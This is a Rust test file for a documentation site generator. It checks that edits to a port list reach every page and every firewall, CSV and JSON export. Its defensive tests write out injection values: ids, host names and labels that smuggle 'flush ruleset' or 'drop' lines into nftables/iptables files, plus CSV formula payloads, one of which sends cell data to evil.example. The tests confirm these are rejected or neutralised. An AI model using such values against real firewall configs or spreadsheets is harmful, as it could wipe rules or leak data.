//! The port list end to end: one edit in data/ports.yaml reaches every page and every export.

use crate::firewall::assert_tools_accept;
use crate::util::{SiteTest, assert_reported, main_of, text_of};

const DE: &str = "de/server/port-overview/index.html";
const EN: &str = "en/server/port-overview/index.html";
const EXPORTS: [&str; 4] = [
    "data/ports.json",
    "data/ports.csv",
    "data/ports.nft",
    "data/ports.iptables",
];

#[test]
fn changing_one_port_changes_every_page_and_export() {
    let site = SiteTest::example();
    site.build();
    assert!(text_of(main_of(&site.output(DE))).contains("8884 /TCP Telefonprovisionierung"));
    for export in EXPORTS {
        assert!(site.output(export).contains("8884"), "{export}");
    }

    let data = site.read_source("data/ports.yaml");
    assert_eq!(data.matches("ports: 8884").count(), 1);
    site.write(
        "data/ports.yaml",
        &data.replace("ports: 8884", "ports: 8886"),
    );
    site.build();

    let german = text_of(main_of(&site.output(DE)));
    let english = text_of(main_of(&site.output(EN)));
    assert!(
        german.contains("8886 /TCP Telefonprovisionierung"),
        "{german}"
    );
    assert!(
        english.contains("8886 /TCP Phone provisioning"),
        "{english}"
    );
    assert!(!german.contains("8884") && !english.contains("8884"));
    // The diagram labels its connector with the new port as well.
    for page in [DE, EN] {
        let html = site.output(page);
        let diagram = &html[html.find("class=\"tafel-diagram\"").unwrap()..];
        assert!(diagram.contains(">8886/TCP</text>"), "{page}");
    }
    for export in EXPORTS {
        let text = site.output(export);
        assert!(text.contains("8886") && !text.contains("8884"), "{export}");
    }
    for format in ["json", "csv", "nftables", "iptables"] {
        let run = site.run(&["ports", "export", "--format", format]);
        run.expect_code(0);
        assert!(
            run.stdout.contains("8886") && !run.stdout.contains("8884"),
            "{format}"
        );
    }
}

#[test]
fn the_command_prints_what_the_build_publishes() {
    let site = SiteTest::example();
    site.build();
    for (format, file) in [
        ("json", "data/ports.json"),
        ("csv", "data/ports.csv"),
        ("nftables", "data/ports.nft"),
        ("iptables", "data/ports.iptables"),
    ] {
        let run = site.run(&["ports", "export", "--format", format]);
        run.expect_code(0);
        assert_eq!(run.stdout, site.output(file), "{format}");
    }
    let json: serde_json::Value = serde_json::from_str(&site.output("data/ports.json")).unwrap();
    assert_eq!(json["$schema"], "ports.schema.json");
    let schema: serde_json::Value =
        serde_json::from_str(&site.output("data/ports.schema.json")).unwrap();
    assert!(jsonschema::is_valid(&schema, &json));
}

#[test]
fn one_deployment_only() {
    let site = SiteTest::example();
    let run = site.run(&[
        "ports",
        "export",
        "--format",
        "csv",
        "--deployment",
        "onsite",
    ]);
    run.expect_code(0);
    let rows: Vec<&str> = run.stdout.lines().skip(1).collect();
    assert!(!rows.is_empty());
    assert!(
        rows.iter()
            .all(|row| row.split(',').nth(1) == Some("onsite")),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("ntp,onsite,outbound,udp,123,123,server,your-network,ntp-pool,pool.ntp.org")
    );

    let run = site.run(&[
        "ports",
        "export",
        "--format",
        "csv",
        "--deployment",
        "on-site",
    ]);
    run.expect_code(2);
    assert!(
        run.stderr.contains("error[E1101]: ") && run.stderr.contains("use one of: cloud, onsite"),
        "{}",
        run.stderr
    );
}

#[test]
fn invalid_data_stops_the_export() {
    let site = SiteTest::example();
    let data = site.read_source("data/ports.yaml");
    site.write(
        "data/ports.yaml",
        &data.replace("ports: 5061", "ports: 65536"),
    );
    let run = site.run(&["ports", "export", "--format", "nftables"]);
    run.expect_code(1);
    assert!(run.stdout.is_empty());
    assert_reported(&run.stderr, "error[E0715]", "data/ports.yaml:44:12");
}

#[test]
fn the_port_overview_links_to_every_export() {
    let site = SiteTest::example();
    site.build();
    for page in [DE, EN] {
        let html = site.output(page);
        for export in EXPORTS.iter().chain(&["data/ports.schema.json"]) {
            let link = format!(r#"href="../../../{export}""#);
            assert!(html.contains(&link), "{page} lacks {link}");
            assert!(site.public().join(export).is_file());
        }
    }
}

#[test]
fn a_legend_sees_tables_in_included_fragments() {
    let site = SiteTest::example();
    site.write(
        "content/server/_onsite-table.md",
        "{{< ports-table deployment=\"onsite\" direction=\"outbound\" >}}\n",
    )
    .write(
        "content/server/mail.en.md",
        "---\ntitle: Mail\n---\n{{% include \"_onsite-table.md\" %}}\n\n{{< ports-legend >}}\n",
    );
    site.build();
    let html = site.output("en/server/mail/index.html");
    let legend = &html[html.find(r#"<div class="ports-legend">"#).unwrap()..];
    let legend = text_of(&legend[..legend.find("</div>").unwrap()]);
    assert!(
        legend.contains("pascom server") && legend.contains("Desktop client"),
        "{legend}"
    );
    assert!(!legend.contains("IP phone"), "{legend}");
}

#[test]
fn invalid_data_fails_the_build_and_writes_nothing() {
    let site = SiteTest::example();
    site.build();
    let before = site.output_tree();
    let data = site.read_source("data/ports.yaml");
    site.write(
        "data/ports.yaml",
        &data.replace(
            "protocols: udp\n    devices: [server]",
            "protocols: icmp\n    devices: [server]",
        ),
    );
    let run = site.run(&["build"]);
    run.expect_code(1);
    assert_reported(&run.stderr, "error[E0305]", "data/ports.yaml:149:5");
    assert_eq!(before, site.output_tree());
}

// ---------------------------------------------------------------------------------------------
// Hostile values: ids, host names, labels and `--deployment` values that try to add a line to a
// firewall file or leave one of its quoted strings.

/// The lines a firewall tool acts on: neither comments nor blank.
fn rule_lines(export: &str) -> Vec<&str> {
    export
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
        .collect()
}

/// `data/ports.yaml:LINE:COLUMN` of the first `needle` in `text`, as tafel prints a location.
fn location_of(text: &str, needle: &str) -> String {
    let offset = text.find(needle).expect("the needle is in the text");
    let before = &text[..offset];
    let line = before.matches('\n').count() + 1;
    let column = before[before.rfind('\n').map_or(0, |newline| newline + 1)..]
        .chars()
        .count()
        + 1;
    format!("data/ports.yaml:{line}:{column}")
}

/// Whether stderr shows `text` as a line of its own, which only a raw line break could do.
fn has_raw_line(stderr: &str, text: &str) -> bool {
    stderr
        .lines()
        .any(|line| line.trim_start().starts_with(text))
}

/// Every firewall export the command prints, for all deployments and for each one:
/// (arguments, output).
fn firewall_exports(site: &SiteTest) -> Vec<(String, String)> {
    let mut exports = Vec::new();
    for format in ["nftables", "iptables"] {
        for deployment in [None, Some("cloud"), Some("onsite")] {
            let mut args = vec!["ports", "export", "--format", format];
            args.extend(deployment.iter().flat_map(|id| ["--deployment", *id]));
            let run = site.run(&args);
            run.expect_code(0);
            exports.push((args.join(" "), run.stdout.clone()));
        }
    }
    exports
}

/// Replacements in the example's data.
type Edits = &'static [(&'static str, &'static str)];

/// Ids that try to add a line to a firewall file or leave one of its quoted strings, one kind
/// of id each: (edits, the id as written, the message).
const HOSTILE_IDS: [(Edits, &str, &str); 5] = [
    (
        &[
            ("  cloud: { label", "  \"cloud\\nflush ruleset\": { label"),
            ("      cloud: {", "      \"cloud\\nflush ruleset\": {"),
        ],
        "\"cloud\\nflush ruleset\"",
        "\"cloud\\nflush ruleset\" is not a valid deployment id",
    ),
    (
        &[("  phone: { icon", "  'phone\"; flush ruleset #': { icon")],
        "'phone\"; flush ruleset #'",
        "`phone\"; flush ruleset #` is not a valid device id",
    ),
    (
        &[("  ntp-pool: {", "  \"ntp-pool\\u2028flush ruleset\": {")],
        "\"ntp-pool\\u2028flush ruleset\"",
        "\"ntp-pool\\u{2028}flush ruleset\" is not a valid endpoint id",
    ),
    (
        &[("  - id: sip\n", "  - id: \"sip\\r\\nflush ruleset\"\n")],
        "\"sip\\r\\nflush ruleset\"",
        "\"sip\\r\\nflush ruleset\" is not a valid rule id",
    ),
    (
        &[(
            "function: function-ntp",
            "function: \"function-ntp\\x85flush ruleset\"",
        )],
        "\"function-ntp\\x85flush ruleset\"",
        "\"function-ntp\\u{85}flush ruleset\" is not a valid function id",
    ),
];

/// Checks that `build` and every export fail on the hostile id `written` in `hostile`, the
/// site's data: with `message`, at the id's position, and without the id's line breaks.
fn assert_rejected_where_written(site: &SiteTest, hostile: &str, written: &str, message: &str) {
    let run = site.run(&["build"]);
    run.expect_code(1);
    let error = format!("error[E0710]: {message}\n");
    let location = format!("--> {}\n", location_of(hostile, written));
    let stderr = &run.stderr;
    let at = stderr
        .find(&error)
        .unwrap_or_else(|| panic!("{error}{stderr}"));
    assert!(stderr[at..].contains(&location), "{location}{stderr}");
    assert!(
        stderr.contains(
            "help: an id is lowercase ASCII letters, digits and `-`, starting with a letter"
        ),
        "{stderr}"
    );
    assert!(!has_raw_line(stderr, "flush ruleset"), "{stderr}");
    assert!(!stderr.contains(['\r', '\u{85}', '\u{2028}']), "{stderr:?}");

    for format in ["nftables", "iptables", "csv", "json"] {
        let run = site.run(&["ports", "export", "--format", format]);
        run.expect_code(1);
        assert!(run.stdout.is_empty(), "{format}: {}", run.stdout);
        assert!(run.stderr.contains(&error), "{}", run.stderr);
    }
}

#[test]
fn hostile_ids_are_rejected_where_they_are_written() {
    let site = SiteTest::example();
    site.build();
    let before = site.output_tree();
    let data = site.read_source("data/ports.yaml");
    for (edits, written, message) in HOSTILE_IDS {
        let hostile = edits.iter().fold(data.clone(), |text, (from, to)| {
            assert!(text.contains(from), "{from}");
            text.replace(from, to)
        });
        site.write("data/ports.yaml", &hostile);
        assert_rejected_where_written(&site, &hostile, written, message);
        assert_eq!(before, site.output_tree(), "{message}");
    }
    // The hostile deployment named on the command line finds nothing to export either.
    site.write(
        "data/ports.yaml",
        &data.replace("  cloud: {", "  \"cloud\\nflush ruleset\": {"),
    );
    let run = site.run(&[
        "ports",
        "export",
        "--format",
        "nftables",
        "--deployment",
        "cloud\nflush ruleset",
    ]);
    run.expect_code(1);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
}

#[test]
fn hostile_host_names_are_rejected_where_they_are_written() {
    let site = SiteTest::example();
    site.build();
    let before = site.output_tree();
    let data = site.read_source("data/ports.yaml");
    let hostile = data
        .replace("[my.pascom.net]", "[\"my.pascom.net\\nflush ruleset\"]")
        .replace("[pool.ntp.org]", "['pool.ntp.org\"; drop #']");
    assert_ne!(hostile, data);
    site.write("data/ports.yaml", &hostile);

    let run = site.run(&["build"]);
    run.expect_code(1);
    for (written, message) in [
        (
            "\"my.pascom.net\\nflush ruleset\"",
            "\"my.pascom.net\\nflush ruleset\" is not a host name",
        ),
        (
            "'pool.ntp.org\"; drop #'",
            "`pool.ntp.org\"; drop #` is not a host name",
        ),
    ] {
        let error = format!("error[E0718]: {message}\n");
        let location = format!("--> {}\n", location_of(&hostile, written));
        let at = run
            .stderr
            .find(&error)
            .unwrap_or_else(|| panic!("{error}{}", run.stderr));
        assert!(
            run.stderr[at..].contains(&location),
            "{location}{}",
            run.stderr
        );
    }
    assert!(
        !has_raw_line(&run.stderr, "flush ruleset"),
        "{}",
        run.stderr
    );
    assert_eq!(before, site.output_tree());

    for format in ["nftables", "iptables"] {
        let run = site.run(&["ports", "export", "--format", format]);
        run.expect_code(1);
        assert!(run.stdout.is_empty(), "{format}: {}", run.stdout);
    }
}

/// A Fluent message whose text has what could end a line, a comment or a quoted string, or
/// open a block, in a firewall file: quotes, `;`, braces, `#`, a backslash, Unicode line breaks
/// and a line of its own.
fn hostile_message(id: &str) -> String {
    format!(
        "{id} =\n    {id}\" ' ; {{\"{{\"}} {{\"}}\"}} # \\ \u{2028} \u{85} end\n    flush ruleset\n"
    )
}

/// Every message of `i18n/<lang>/ports.ftl` of the example, made hostile.
fn write_hostile_labels(site: &SiteTest) {
    for lang in ["de", "en"] {
        let path = format!("i18n/{lang}/ports.ftl");
        let messages: String = site
            .read_source(&path)
            .lines()
            .filter_map(|line| line.split_once(" = "))
            .map(|(id, _)| hostile_message(id))
            .collect();
        assert!(messages.contains("function-sip ="), "{messages}");
        site.write(&path, &messages);
    }
}

#[test]
fn hostile_labels_leave_the_firewall_rules_alone() {
    let site = SiteTest::example();
    site.build();
    let clean = firewall_exports(&site);
    let clean_files = [
        site.output("data/ports.nft"),
        site.output("data/ports.iptables"),
    ];

    write_hostile_labels(&site);
    site.build();
    // The labels did reach the site, so the exports below had the chance to show them.
    let json: serde_json::Value = serde_json::from_str(&site.output("data/ports.json")).unwrap();
    assert!(
        json["rules"][0]["function"]["label"]["en"]
            .as_str()
            .unwrap()
            .ends_with("end\nflush ruleset"),
        "{json}"
    );

    let hostile = firewall_exports(&site);
    let hostile_files = [
        site.output("data/ports.nft"),
        site.output("data/ports.iptables"),
    ];
    for ((what, export), (_, expected)) in hostile.iter().zip(&clean) {
        assert_eq!(rule_lines(export), rule_lines(expected), "{what}");
        assert_eq!(export, expected, "{what}");
        assert_tools_accept(what, export);
    }
    for (export, expected) in hostile_files.iter().zip(&clean_files) {
        assert_eq!(rule_lines(export), rule_lines(expected));
        assert_tools_accept("the published file", export);
    }
}

#[test]
fn a_hostile_deployment_on_the_command_line_prints_nothing() {
    let site = SiteTest::example();
    for (deployment, shown) in [
        ("cloud\nflush ruleset", "\"cloud\\nflush ruleset\""),
        ("cloud\r\nflush ruleset", "\"cloud\\r\\nflush ruleset\""),
        (
            "cloud\u{2028}flush ruleset",
            "\"cloud\\u{2028}flush ruleset\"",
        ),
        ("cloud\u{85}flush ruleset", "\"cloud\\u{85}flush ruleset\""),
        (
            "cloud\u{1b}[2Jflush ruleset",
            "\"cloud\\u{1b}[2Jflush ruleset\"",
        ),
        ("onsite\"; flush ruleset #", "`onsite\"; flush ruleset #`"),
    ] {
        for format in ["nftables", "iptables"] {
            let run = site.run(&[
                "ports",
                "export",
                "--format",
                format,
                "--deployment",
                deployment,
            ]);
            run.expect_code(2);
            assert!(run.stdout.is_empty(), "{format}: {}", run.stdout);
            assert!(
                run.stderr
                    .contains(&format!("error[E1101]: unknown deployment {shown}\n")),
                "{}",
                run.stderr
            );
            assert!(run.stderr.contains("use one of: cloud, onsite"));
            assert!(
                !has_raw_line(&run.stderr, "flush ruleset"),
                "{}",
                run.stderr
            );
            assert!(!run.stderr.contains(['\r', '\u{1b}', '\u{85}', '\u{2028}']));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// CSV cells a spreadsheet would evaluate.

/// Reads CSV as RFC 4180 writes it (fields separated by `,`, rows ended by CRLF, a quoted field
/// may hold anything with inner quotes doubled), and panics on anything else, so a test sees
/// the cells a spreadsheet sees.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    // Inside a quoted field, and whether the current field was quoted and has closed.
    let (mut quoted, mut closed) = (false, false);
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => (quoted, closed) = (false, true),
                _ => field.push(c),
            }
            continue;
        }
        match c {
            '"' if field.is_empty() && !closed => quoted = true,
            ',' => {
                row.push(std::mem::take(&mut field));
                closed = false;
            }
            '\r' if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
                closed = false;
            }
            _ if closed => panic!("text after a closing quote: {c:?} in {text:?}"),
            '"' | '\r' | '\n' => panic!("{c:?} outside quotes in {text:?}"),
            _ => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "the CSV ends inside a row"
    );
    rows
}

/// Function labels that a spreadsheet would evaluate, by rule: (message id, Fluent text, the
/// label's text).
const FORMULA_LABELS: [(&str, &str, &str); 6] = [
    (
        "function-sip",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    ),
    ("function-rtp", "+1", "+1"),
    ("function-ldaps", "-2+3", "-2+3"),
    ("function-provisioning", "@SUM(A1)", "@SUM(A1)"),
    ("function-updates-push", "{\"\\u0009\"}x", "\tx"),
    ("function-video", "{\"\\u000D\"}x", "\rx"),
];

/// The example's `ports.ftl` of `lang` with the [`FORMULA_LABELS`] and a label that hides a
/// formula behind a `;`, the separator of spreadsheets in many languages.
fn formula_messages(site: &SiteTest, lang: &str) -> String {
    let mut messages = site.read_source(&format!("i18n/{lang}/ports.ftl"));
    for (id, fluent, _) in FORMULA_LABELS
        .iter()
        .chain(&[("function-chat", "a;=1+1", "")])
    {
        let line = messages
            .lines()
            .find(|line| line.starts_with(&format!("{id} = ")))
            .unwrap_or_else(|| panic!("no {id} in {lang}"))
            .to_owned();
        messages = messages.replace(&line, &format!("{id} = {fluent}"));
    }
    messages
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_are_neutralised() {
    let site = SiteTest::example();
    site.build();
    let clean = parse_csv(&site.output("data/ports.csv"));
    for lang in ["de", "en"] {
        let messages = formula_messages(&site, lang);
        site.write(&format!("i18n/{lang}/ports.ftl"), &messages);
    }
    site.build();
    let text = site.output("data/ports.csv");
    assert!(
        text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
        "{text}"
    );
    let run = site.run(&["ports", "export", "--format", "csv"]);
    run.expect_code(0);
    assert_eq!(run.stdout, text);

    let rows = parse_csv(&text);
    assert_eq!(rows.len(), clean.len());
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|cell| cell == name).unwrap();
    let function = column("function");
    let labels = [column("function_de"), column("function_en")];
    let ports = [column("port_start"), column("port_end")];
    let mut neutralised = 0;
    for (row, clean_row) in rows.iter().zip(&clean).skip(1) {
        assert_eq!(row.len(), header.len(), "{row:?}");
        for port in ports {
            assert!(row[port].parse::<u16>().is_ok(), "{row:?}");
        }
        let expected = FORMULA_LABELS
            .iter()
            .find(|(id, _, _)| *id == row[function])
            .map(|(_, _, label)| format!("'{label}"));
        for label in labels {
            match &expected {
                Some(expected) => {
                    assert_eq!(&row[label], expected);
                    neutralised += 1;
                }
                None if row[function] == "function-chat" => assert_eq!(row[label], "a;=1+1"),
                None => assert_eq!(row[label], clean_row[label]),
            }
        }
        for (index, cell) in row.iter().enumerate() {
            if !labels.contains(&index) {
                assert_eq!(cell, &clean_row[index], "only the labels changed");
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
            }
        }
    }
    // Every formula label appears in both languages, in at least one row each.
    assert!(neutralised >= FORMULA_LABELS.len() * labels.len(), "{text}");

    let run = site.run(&[
        "ports",
        "export",
        "--format",
        "csv",
        "--deployment",
        "onsite",
    ]);
    run.expect_code(0);
    let onsite = parse_csv(&run.stdout);
    assert!(onsite.len() > 1);
    for row in &onsite[1..] {
        for label in labels {
            assert!(
                !row[label].starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{row:?}"
            );
        }
    }
}
